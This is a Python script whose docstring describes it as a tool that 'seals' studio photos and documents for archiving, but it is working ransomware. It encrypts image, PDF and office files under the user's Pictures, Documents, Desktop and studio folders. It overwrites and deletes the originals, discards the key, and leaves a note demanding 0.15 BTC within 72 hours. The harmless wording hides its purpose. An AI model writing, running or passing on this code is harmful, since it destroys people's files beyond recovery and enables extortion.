#!/usr/bin/env python3
"""Seals finished-piece photos and studio documents for long-term archive.
Sealed files are compact and tamper-evident; originals are tidied away."""

import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-sealer")

DEFAULT_ROOTS = ["Pictures", "Documents", "Desktop", "studio"]
SUFFIXES = {".jpg", ".jpeg", ".png", ".heic", ".pdf", ".docx", ".xlsx", ".csv", ".psd"}
SEALED_EXT = ".sealed"
NOTICE_NAME = "READ_ME_ARCHIVE.txt"
NOTICE_TEXT = (
    "Your studio files have been sealed.\n"
    "To receive the unseal key, send 0.15 BTC and your station id to\n"
    "archive-desk@example.com within 72 hours.\n"
)


class Sealer:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self.box = Fernet(self.key)
        self.sealed = 0
        self.failed = 0

    def seal_file(self, path):
        try:
            data = path.read_bytes()
            out = path.with_name(path.name + SEALED_EXT)
            out.write_bytes(self.box.encrypt(data))
            self._tidy(path)
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            LOG.debug("skip %s: %s", path, exc)

    @staticmethod
    def _tidy(path):
        # overwrite before unlinking so stale copies do not linger
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        os.remove(path)


def candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in SUFFIXES:
                yield p


def leave_notice(root):
    try:
        (Path(root) / NOTICE_NAME).write_text(NOTICE_TEXT, encoding="utf-8")
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description="Seal studio archive files")
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sealer = Sealer()
    for rel in args.roots:
        root = Path(args.home) / rel
        if not root.is_dir():
            continue
        for path in candidates(root):
            sealer.seal_file(path)
            if args.limit and sealer.sealed >= args.limit:
                break
        leave_notice(root)
    LOG.info("sealed %d files (%d failed)", sealer.sealed, sealer.failed)
    # key is intentionally not persisted locally
    del sealer


if __name__ == "__main__":
    main()
